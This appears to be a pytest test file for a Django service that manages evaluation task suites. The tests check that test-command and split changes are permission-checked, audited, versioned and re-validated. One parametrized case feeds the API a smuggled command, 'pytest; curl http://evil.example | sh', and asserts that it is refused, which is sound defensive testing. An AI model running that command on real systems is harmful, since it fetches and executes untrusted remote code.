"""Changing how existing tasks are used: a suite's split and a task's test command, from the API, the
admin and the commands; each change is checked, audited, versioned and followed by validation."""

from __future__ import annotations

import io

import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command

from core.models import AuditEvent
from tasks.models import Task, TaskSuite, ValidationRun
from tests.conftest import client_for

pytestmark = pytest.mark.django_db
TASK = "task_0001"


def test_api_changes_a_tasks_test_command_with_a_new_version_and_a_validation_run(
    demo_suite: TaskSuite, researcher: User
) -> None:
    task = Task.objects.get(task_id=TASK)
    before_version = task.version
    response = client_for(researcher).post(
        f"/api/v1/tasks/{TASK}/test-command/", {"test_command": "python -m pytest -x", "runs": 1}, "application/json"
    )
    assert response.status_code == 202, response.content
    task.refresh_from_db()
    assert task.test_command == "python -m pytest -x" and task.metadata["test_command"] == "python -m pytest -x"
    assert task.version != before_version
    assert task.validation_status == Task.Validation.UNVALIDATED
    run = ValidationRun.objects.get(pk=response.json()["validation_runs"][0])
    assert run.suite == demo_suite and run.runs == 1
    event = AuditEvent.objects.get(action="change")
    assert event.detail == {"field": "test_command", "before": "python -m pytest -q", "after": "python -m pytest -x"}


@pytest.mark.parametrize(
    "command",
    ["tox -e py311", "pytest; curl http://evil.example | sh", "python -c 'import os'", "FOO=1 pytest", ""],
)
def test_a_command_the_harness_would_refuse_is_refused_and_nothing_changes(
    demo_suite: TaskSuite, researcher: User, command: str
) -> None:
    task = Task.objects.get(task_id=TASK)
    response = client_for(researcher).post(
        f"/api/v1/tasks/{TASK}/test-command/", {"test_command": command}, "application/json"
    )
    assert response.status_code == 400
    assert response.json()["detail"].startswith("test_command")
    after = Task.objects.get(task_id=TASK)
    assert (after.test_command, after.version, after.validation_status) == (
        task.test_command,
        task.version,
        task.validation_status,
    )
    assert not ValidationRun.objects.exists() and not AuditEvent.objects.filter(action="change").exists()


def test_reviewers_cannot_change_tasks(demo_suite: TaskSuite, reviewer: User) -> None:
    client = client_for(reviewer)
    assert (
        client.post(f"/api/v1/tasks/{TASK}/test-command/", {"test_command": "pytest"}, "application/json").status_code
        == 403
    )
    assert client.post("/api/v1/suites/demo/split/", {"split": "eval"}, "application/json").status_code == 403
    assert TaskSuite.objects.get(name="demo").split == "train"


def test_api_moves_a_suite_to_another_split_and_validates_it_again(demo_suite: TaskSuite, researcher: User) -> None:
    client = client_for(researcher)
    assert client.post("/api/v1/suites/demo/split/", {"split": "holdout"}, "application/json").status_code == 400
    response = client.post("/api/v1/suites/demo/split/", {"split": "eval", "runs": 2}, "application/json")
    assert response.status_code == 202, response.content
    assert TaskSuite.objects.get(name="demo").split == "eval"
    assert ValidationRun.objects.get(pk=response.json()["validation_runs"][0]).runs == 2
    assert AuditEvent.objects.get(action="change").detail == {"field": "split", "before": "train", "after": "eval"}


def test_admin_edits_only_the_test_command_and_the_change_is_audited(demo_suite: TaskSuite, admin_user: User) -> None:
    admin_user.is_staff = admin_user.is_superuser = True
    admin_user.save()
    task = Task.objects.get(task_id=TASK)
    client = client_for(admin_user)
    url = f"/admin/tasks/task/{task.pk}/change/"
    assert client.get(url).status_code == 200
    response = client.post(url, {"test_command": "pytest -q tests", "repo": "ignored/other"})
    assert response.status_code == 302, response.content.decode()[:2000]
    task.refresh_from_db()
    assert task.test_command == "pytest -q tests" and task.repo != "ignored/other"
    assert AuditEvent.objects.get(action="change").actor == admin_user
    refused = client.post(url, {"test_command": "make test"}, follow=True)
    assert "is not `pytest" in refused.content.decode()
    assert Task.objects.get(pk=task.pk).test_command == "pytest -q tests"


def test_set_test_command_validates_the_changed_task(demo_suite: TaskSuite) -> None:
    out = io.StringIO()
    call_command(
        "set_test_command", "--task", TASK, "python -m pytest -q -p no:cacheprovider", "--runs", "1", stdout=out
    )
    assert "1 task(s) now run" in out.getvalue() and "1 valid" in out.getvalue()
    assert Task.objects.get(task_id=TASK).validation_status == Task.Validation.VALID
    with pytest.raises(CommandError, match="is not `pytest"):
        call_command("set_test_command", "--suite", "demo", "bash run-tests.sh", stdout=io.StringIO())
    with pytest.raises(CommandError, match="no task"):
        call_command("set_test_command", "--task", "nope", "pytest", stdout=io.StringIO())
